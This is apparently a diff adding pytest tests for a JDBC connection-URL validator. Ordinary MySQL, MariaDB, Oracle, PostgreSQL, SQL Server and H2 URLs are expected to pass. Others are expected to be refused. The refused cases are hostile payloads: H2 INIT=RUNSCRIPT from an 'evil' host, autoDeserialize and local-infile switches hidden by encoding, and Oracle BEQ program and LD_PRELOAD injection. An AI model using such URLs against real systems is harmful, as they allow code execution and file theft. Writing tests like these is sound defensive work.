@@ -84,3 +84,98 @@ def test_no_message_shows_what_is_not_known_to_be_harmless() -> None:
     )
 
     assert text == "no ***, ***, *** or ***: sslpassword=***, user=visible, ssl true"
+
+
+RAC = (
+    "jdbc:oracle:thin:@(DESCRIPTION=(ENABLE=BROKEN)(CONNECT_TIMEOUT=90)(RETRY_COUNT=20)(FAILOVER=ON)(LOAD_BALANCE=ON)"
+    "(ADDRESS_LIST=(ADDRESS=(PROTOCOL=TCP)(HOST=scan.acme.example)(PORT=1521)))(CONNECT_DATA=(SERVICE_NAME=shop)"
+    "(SERVER=DEDICATED)(FAILOVER_MODE=(TYPE=SELECT)(METHOD=BASIC)(RETRIES=180)(DELAY=5))(CID=(PROGRAM=ckpt)(USER=a))))"
+)
+TCPS = (
+    "jdbc:oracle:thin:@(description= (retry_count=20)(retry_delay=3)(address=(protocol=tcps)(port=1522)"
+    "(host=adb.eu.oraclecloud.com))(connect_data=(service_name=x_high.adb.oraclecloud.com))(security="
+    "(ssl_server_dn_match=yes)(wallet_location=/w)(MY_WALLET_DIRECTORY=/w)"
+    '(ssl_server_cert_dn="CN=adb.oraclecloud.com,OU=Oracle BMCS,O=Oracle Corporation,L=Redwood City,C=US")))'
+)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        RAC,
+        TCPS,
+        "jdbc:oracle:thin:@tcps://db.example:2484/shop?wallet_location=/w&ssl_server_cert_dn=CN=db,O=acme&retry_count=3",
+        "jdbc:oracle:thin:@shop_high?TNS_ADMIN=/opt/wallet",
+        "jdbc:oracle:thin:@//db.example:1521/shop",
+        "jdbc:oracle:thin:@db.example:1521:ORCL",
+        "jdbc:mysql://h/d?useUnicode=true&characterEncoding=UTF-8&useJDBCCompliantTimezoneShift=true&serverTimezone=UTC",
+        "jdbc:mysql://h/d?useLegacyDatetimeCode=false&jdbcCompliantTruncation=false&zeroDateTimeBehavior=ROUND",
+        "jdbc:mysql://h/d?allowLoadLocalInfile=false&allowUrlInLocalInfile=false&autoDeserialize=FALSE&allowMultiQueries=0",
+        "jdbc:mysql://h/d?sessionVariables=sql_mode='ANSI',time_zone='+00:00'&useSSL=true",
+        "jdbc:mysql:replication://address=(type=source)(host=a)(port=1),address=(type=replica)(host=b)/d",
+        "jdbc:mysql+srv://h/d?useAffectedRows=true",
+        "jdbc:mariadb://h:3306/d?useSSL=true&trustServerCertificate=true&disableSslHostnameVerification=true",
+        "jdbc:mariadb:sequential://a,b/d?sslMode=verify-full&allowLocalInfile=false&transactionReplay=true&pool=false",
+        "jdbc:mariadb://h/d?useUnicode=true&characterEncoding=utf8&usePipelineAuth=false&useBatchMultiSend=false",
+        "jdbc:sqlserver://h\\inst:1433;databaseName=d;encrypt=true;trustServerCertificate=false;disableStatementPooling=false",
+        "jdbc:sqlserver://h;databaseName=d;failoverPartner=b;statementPoolingCacheSize=10;authentication=SqlPassword",
+        "jdbc:h2:tcp://h/d;TRACE_LEVEL_FILE=0;TRACE_LEVEL_SYSTEM_OUT=0;AUTO_SERVER=FALSE;IFEXISTS=TRUE",
+        "jdbc:h2:file:/data/shop;MODE=MySQL;DATABASE_TO_LOWER=TRUE;SCHEMA_SEARCH_PATH=a;NON_KEYWORDS=VALUE",
+        "jdbc:postgresql://a:1,b:2/d?targetServerType=preferSecondary&loadBalanceHosts=true&currentSchema=a,b",
+        "jdbc:postgresql://h/d?options=-c%20statement_timeout=60000&loggerLevel=OFF&sslmode=require",
+    ],
+)
+def test_urls_as_people_have_them_pass(url: str) -> None:
+    check(connection(url))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
+        "jdbc:mysql://h/d?allowLoadLocalInfile=true&allowLoadLocalInfile=false",
+        "jdbc:mysql://h/d?allowLoadLocalInfile=false&allowLoadLocalInfile=true",
+        "jdbc:mysql://h/d?allowLoadLocalInfile=%74rue",
+        "jdbc:mysql://h/d?allowLoadLocalInfileInPath=false",
+        "jdbc:mysql://h/d?autoDeserializ%65=true",
+        "jdbc:mysql://h/d?%61utoDeserialize=true",
+        "jdbc:mysql://h/d?autoDeserialize\t=true",
+        "jdbc:mysql://(host=h,autoDeserialize=true)/d",
+        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
+        "jdbc:mysql://h/d?sessionVariables=a=1&queryInterceptors=x.Y",
+        "jdbc:mysql://h/d?ha.loadBalanceStrategy=x.Y",
+        "jdbc:mysql://h/d?loadBalanceExceptionChecker=x.Y",
+        "jdbc:mysql+srv://h/d?clientInfoProvider=x.Y",
+        "jdbc:mariadb://h/d?initSql=drop",
+        "jdbc:mariadb://h/d?tlsSocketType=x",
+        "jdbc:mariadb://h/d?trustServerCertificate=true&socketFactory=x.Y",
+        "jdbc:mariadb://h/d?allowLocalInfile=1",
+        "jdbc:postgresql://h/d?socketFactor%79=x.Y",
+        "jdbc:postgresql://h/d?loggerLevel=TRACE",
+        "jdbc:postgresql://h/d?options=a,b&sslhostnameverifier=x.Y",
+        "jdbc:sqlserver://h;databaseName=d;disableStatementPooling=false;socketFactoryClass=x.Y",
+        "jdbc:sqlserver://h;accessTokenCallbackClass=x.Y",
+        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=00",
+        "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
+        "jdbc:h2:mem:x;INIT\\=RUNSCRIPT FROM 'http://evil/x.sql'",
+        "jdbc:h2:mem:x;IN\\IT=RUNSCRIPT FROM 'http://evil/x.sql'",
+        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='x.Y'",
+        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='x.Y'",
+        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROTOCOL=BEQ)(PROGRAM=/tmp/evil))(CONNECT_DATA=(SID=x)))",
+        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROTOCOL = beq )(PROGRAM=/tmp/evil)))",
+        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROGRAM=/tmp/evil)(ARGV0=x)( ARGS =y)))",
+        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(ENVS='LD_PRELOAD=/tmp/x.so')))",
+        "jdbc:oracle:thin:@h:1/s?oracle.jdbc.provider.password=x",
+        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)))?oracle.jdbc.provider.traceEventListener=x",
+        "jdbc:oracle:thin:@h:1/s?retry_count=1,2&oracle.jdbc.config.file=x",
+    ],
+)
+def test_a_url_that_has_a_driver_load_code_is_refused_however_it_is_written(url: str) -> None:
+    with pytest.raises(ConfigError, match=r"is not accepted for a driver of|holds a password"):
+        check(connection(url))
+
+
+def test_a_switch_among_the_properties_may_be_off_and_not_on() -> None:
+    check(connection("jdbc:mysql://h/d", allowLoadLocalInfile="False"))
+    with pytest.raises(ConfigError, match="allowLoadLocalInfile is not accepted"):
+        check(connection("jdbc:mysql://h/d", allowLoadLocalInfile="yes"))
